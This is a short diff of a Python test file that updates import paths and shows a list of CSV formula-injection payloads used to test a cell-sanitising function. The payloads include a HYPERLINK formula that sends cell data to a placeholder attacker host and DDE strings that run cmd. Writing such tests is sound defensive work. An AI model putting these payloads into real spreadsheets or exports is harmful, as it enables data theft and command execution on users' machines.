@@ -10,10 +10,10 @@ import pandas as pd
 from hostile import article
 from typer.testing import CliRunner
 
-from app.exporting import csv_bytes
-from app.fixtures import generate_store
+from arahan.app.exporting import csv_bytes
+from arahan.app.fixtures import generate_store
 from arahan.cli import app
-from corpus.csvcell import FORMULA_START, safe_cell
+from arahan.corpus.csvcell import FORMULA_START, safe_cell
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
